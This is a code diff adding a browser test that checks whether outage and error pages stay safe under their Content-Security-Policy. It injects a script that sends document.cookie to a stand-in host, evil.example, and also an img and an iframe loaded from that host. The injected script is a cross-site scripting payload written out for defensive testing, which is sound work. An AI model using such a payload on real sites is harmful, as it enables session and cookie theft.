@@ -5,6 +5,7 @@ import axe from "axe-core";
 import type { Browser, Page } from "playwright-core";
 import { openBrowser } from "../browser";
 import { branding } from "./example";
+import { pagesPolicy } from "../../components/outage/behaviours";
 import { firstFiles, statusFiles, statusPath } from "../../components/outage/pages/files";
 import { functionCode } from "../../components/outage/pages/functionCode";
 import { run } from "../cloudfront-functions/harness";
@@ -150,6 +151,42 @@ describe("the pages in a browser", () => {
       assert.deepEqual(others, [], name);
       assert.ok((await page.locator("h1").innerText()).length > 5, name);
     }));
+
+  it("run nothing that gets into the bucket, and look the same under their Content-Security-Policy", async () => {
+    const window = await (await browser.newContext()).newPage();
+    const asked: string[] = [];
+    let body = "";
+    let headers: Record<string, string> = {};
+    await window.route("**/*", (route) => {
+      asked.push(route.request().url());
+      return route.fulfill({ status: 200, contentType: "text/html; charset=utf-8", headers, body });
+    });
+    const show = async (html: string, policy: boolean) => {
+      asked.length = 0;
+      body = html;
+      headers = policy ? { "content-security-policy": pagesPolicy } : {};
+      await window.goto("https://moodle.example.org/outage/page");
+      await window.waitForLoadState("networkidle");
+      return {
+        others: asked.slice(1).filter((url) => !url.endsWith("/favicon.ico")),
+        picture: await window.screenshot(),
+      };
+    };
+    for (const [name, html] of Object.entries(pages).filter(([key]) => /^(error|status) page/.test(key))) {
+      const [without, within] = [await show(html, false), await show(html, true)];
+      assert.ok(without.picture.equals(within.picture), name);
+      const nasty = html.replace(
+        "</body>",
+        '<script>document.title = "taken"; fetch("https://evil.example/?" + document.cookie)</script>' +
+          '<img src="https://evil.example/x.png" onerror="document.title = 1"><iframe src="https://evil.example/"></iframe></body>',
+      );
+      assert.notEqual(nasty, html);
+      assert.ok((await show(nasty, false)).others.length > 0, "the attack works without the policy");
+      const { others } = await show(nasty, true);
+      assert.deepEqual(others, [], name);
+      assert.notEqual(await window.title(), "taken");
+    }
+  });
 
   it("can be used with the keyboard alone, and show where it is", () =>
     each(async (name, html) => {
